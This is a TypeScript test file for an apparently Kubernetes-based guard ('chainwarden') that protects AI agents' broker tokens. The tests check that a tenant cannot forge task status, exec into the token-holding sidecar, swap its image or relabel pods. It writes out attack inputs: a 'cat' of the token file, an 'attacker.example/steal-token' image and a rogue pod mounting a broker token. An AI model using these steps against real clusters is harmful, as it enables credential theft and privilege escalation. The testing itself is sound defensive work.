import { RbacAuthorizationV1Api } from '@kubernetes/client-node';
import { rawRequest } from '../../../src/kube/raw.js';
import { examplePolicy, exampleTask } from '../../builders/examples.js';
import { describe, expect, test } from '../../env/fixtures.js';
import { boundExampleAgent } from '../../env/hops.js';
import { create, grant } from '../../env/kube.js';
import { readTask, waitForTask } from '../operator/helpers.js';

describe('status is not an attack surface', () => {
  test('a tenant granted agenttasks/status by a careless Role still cannot write a task\'s status', async ({ admin, namespace, userKubeConfig }) => {
    await create(admin, examplePolicy(namespace));
    await create(admin, exampleTask(namespace));
    await waitForTask(admin, namespace, 'ticket-4711', (t) => t.status?.state === 'Pending');
    await grant(admin, namespace, ['mallory'], ['agenttasks', 'agenttasks/status'], ['get', 'list', 'update', 'patch']);
    const mallory = await userKubeConfig('mallory');
    const path = `/apis/chainwarden.io/v1alpha1/namespaces/${namespace}/agenttasks/ticket-4711/status`;
    // Marking the task Bound to a pod of their own, or clearing a violation, would hand them its credentials.
    const forged = { status: { state: 'Bound', boundPods: [{ name: 'mallory-pod', uid: 'forged-uid' }], spiffeID: 'spiffe://cluster.local/ns/other/sa/admin/task/x' } };
    const merge = await rawRequest(mallory, 'PATCH', path, forged, 'application/merge-patch+json');
    expect(merge.status).toBe(403);
    expect(JSON.stringify(merge.body)).toContain('AgentTask status is written by the chainwarden operator (system:serviceaccount:chainwarden-system:chainwarden) only');
    const apply = await rawRequest(mallory, 'PATCH', `${path}?fieldManager=mallory&force=true`, { apiVersion: 'chainwarden.io/v1alpha1', kind: 'AgentTask', metadata: { name: 'ticket-4711', namespace }, ...forged }, 'application/apply-patch+yaml');
    expect(apply.status).toBe(403);
    const task = await readTask(admin, namespace, 'ticket-4711');
    expect(task?.status?.state).toBe('Pending');
    expect(task?.status?.boundPods ?? []).toEqual([]);
    // The RBAC grant itself works: the refusal is the status guard's, not a missing permission.
    const read = await rawRequest(mallory, 'GET', path);
    expect(read.status).toBe(200);
  });
});

describe('the sidecar is not a way in', () => {
  test('a tenant granted pods/exec and pods/attach cannot enter an agent pod\'s chainwarden-agent container, which holds its broker token; the app container stays open to them', async ({ admin, env, namespace, userKubeConfig }) => {
    const { pod } = await boundExampleAgent(admin, env, namespace);
    // The sidecar the webhook injected, by the name the guard checks.
    expect([...(pod.spec?.containers ?? []), ...(pod.spec?.initContainers ?? [])].map((c) => c.name)).toContain('chainwarden-agent');
    const rbac = admin.makeApiClient(RbacAuthorizationV1Api);
    await rbac.createNamespacedRole({ namespace, body: { metadata: { name: 'debuggers' }, rules: [{ apiGroups: [''], resources: ['pods', 'pods/exec', 'pods/attach'], verbs: ['get', 'list', 'create', 'patch'] }] } });
    await rbac.createNamespacedRoleBinding({ namespace, body: { metadata: { name: 'debuggers' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'debuggers' }, subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'mallory' }] } });
    const mallory = await userKubeConfig('mallory');
    const base = `/api/v1/namespaces/${namespace}/pods/agent-0`;
    const enter = (verb: 'exec' | 'attach', container: string) =>
      rawRequest(mallory, 'POST', `${base}/${verb}?container=${container}&stdout=true${verb === 'exec' ? '&command=cat&command=/var/run/secrets/chainwarden/token' : ''}`);
    for (const verb of ['exec', 'attach'] as const) {
      const refused = await enter(verb, 'chainwarden-agent');
      expect(refused.status).toBe(403);
      expect(JSON.stringify(refused.body)).toContain(`the chainwarden-agent container of pod agent-0 holds the pod's chainwarden broker token and may not be entered (exec or attach)`);
      // The app container passes admission: what stops it here is that no kubelet runs the pod, not the guard.
      const app = await enter(verb, 'agent');
      expect(JSON.stringify(app.body)).not.toContain('chainwarden broker token');
      expect(app.status).not.toBe(403);
    }
    // Nor can they swap the sidecar's image, the one field of it a pod update may change: another image would run with the token mounted.
    const inits = pod.spec?.initContainers?.some((c) => c.name === 'chainwarden-agent') ? 'initContainers' : 'containers';
    const swap = await rawRequest(mallory, 'PATCH', base, { spec: { [inits]: [{ name: 'chainwarden-agent', image: 'attacker.example/steal-token:1' }] } }, 'application/strategic-merge-patch+json');
    expect(JSON.stringify(swap.body)).toContain('the chainwarden-agent container is the one admission injected and cannot be changed on a running pod (its image included)');
    expect(swap.status).toBe(422);
    const app = await rawRequest(mallory, 'PATCH', base, { spec: { containers: [{ name: 'agent', image: 'example.invalid/agent:2' }] } }, 'application/strategic-merge-patch+json');
    expect(app.status, JSON.stringify(app.body)).toBe(200);
  });

  test("a tenant granted pods/status cannot add, change or remove a pod's task label there, where the pod webhook never looks", async ({ admin, env, namespace, userKubeConfig }) => {
    await boundExampleAgent(admin, env, namespace);
    const rbac = admin.makeApiClient(RbacAuthorizationV1Api);
    await rbac.createNamespacedRole({ namespace, body: { metadata: { name: 'status-writers' }, rules: [{ apiGroups: [''], resources: ['pods', 'pods/status'], verbs: ['get', 'list', 'create', 'patch', 'update'] }] } });
    await rbac.createNamespacedRoleBinding({ namespace, body: { metadata: { name: 'status-writers' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'status-writers' }, subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'mallory' }] } });
    const mallory = await userKubeConfig('mallory');
    // Unlabelled, so no webhook looked at it: its container mounts a broker token of its own.
    const rogue = {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'rogue' },
      spec: {
        serviceAccountName: 'support-agent',
        containers: [{ name: 'app', image: 'example.invalid/app:1', volumeMounts: [{ name: 'stolen', mountPath: '/t' }] }],
        volumes: [{ name: 'stolen', projected: { sources: [{ serviceAccountToken: { audience: 'chainwarden', path: 'token' } }] } }],
      },
    };
    expect((await rawRequest(mallory, 'POST', `/api/v1/namespaces/${namespace}/pods`, rogue)).status).toBe(201);
    const label = (pod: string, value: string | null) => rawRequest(mallory, 'PATCH', `/api/v1/namespaces/${namespace}/pods/${pod}/status`, { metadata: { labels: { 'chainwarden.io/task': value } } }, 'application/merge-patch+json');
    const added = await label('rogue', 'ticket-4711');
    expect(added.status).toBe(403);
    expect(JSON.stringify(added.body)).toContain("the chainwarden.io/task label of pod rogue is set when the pod is created and cannot be changed, through its status or otherwise (it was '', the update makes it 'ticket-4711')");
    for (const value of ['another-task', null]) {
      const moved = await label('agent-0', value);
      expect(moved.status).toBe(403);
      expect(JSON.stringify(moved.body)).toContain('the chainwarden.io/task label of pod agent-0 is set when the pod is created and cannot be changed');
    }
    // The grant itself works: a status update that leaves the label alone goes through.
    const condition = await rawRequest(mallory, 'PATCH', `/api/v1/namespaces/${namespace}/pods/agent-0/status`, { status: { conditions: [{ type: 'example.com/Checked', status: 'True' }] } }, 'application/strategic-merge-patch+json');
    expect(condition.status, JSON.stringify(condition.body)).toBe(200);
    const task = await readTask(admin, namespace, 'ticket-4711');
    expect(task?.status?.boundPods?.map((p) => p.name)).toEqual(['agent-0']);
  });
});
